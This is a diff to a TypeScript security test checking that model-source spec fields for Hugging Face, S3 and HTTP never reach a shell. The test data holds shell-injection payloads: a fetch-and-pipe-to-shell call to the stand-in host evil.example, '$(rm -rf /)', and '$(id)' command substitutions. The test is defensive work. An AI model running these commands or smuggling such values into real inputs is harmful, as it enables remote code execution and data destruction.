@@ -21,7 +21,8 @@ const HOSTILE = "main;curl${IFS}evil.example|sh&&$(id)`id`'\"";
 const hostileCases: { reason: string; source: JsonObject; needle: string }[] = [
   { reason: "a Hugging Face revision with shell metacharacters", source: { huggingFace: { repo: "Qwen/Qwen3-8B", revision: HOSTILE, include: [`*.json;${HOSTILE}`], exclude: ["$(rm -rf /)"] } }, needle: HOSTILE },
   { reason: "an S3 prefix with shell metacharacters", source: { s3: { uri: `s3://models/${HOSTILE}`, region: "$(id)" } }, needle: `s3://models/${HOSTILE}` },
-  { reason: "an HTTP URL with a quoted query", source: { http: { url: `https://h.example.com/m.bin?x=${encodeURIComponent(HOSTILE)}'$(id)'`, sha256: "a".repeat(64) } }, needle: "'$(id)'" },
+  // (A URL with a query never reaches argv at all: it travels in the files ConfigMap, test/security/credentials-api.test.ts.)
+  { reason: "an HTTP URL with a quoted path", source: { http: { url: `https://h.example.com/m'$(id)'.bin`, sha256: "a".repeat(64) } }, needle: "'$(id)'" },
 ];
 
 describe("no spec value reaches a shell", () => {
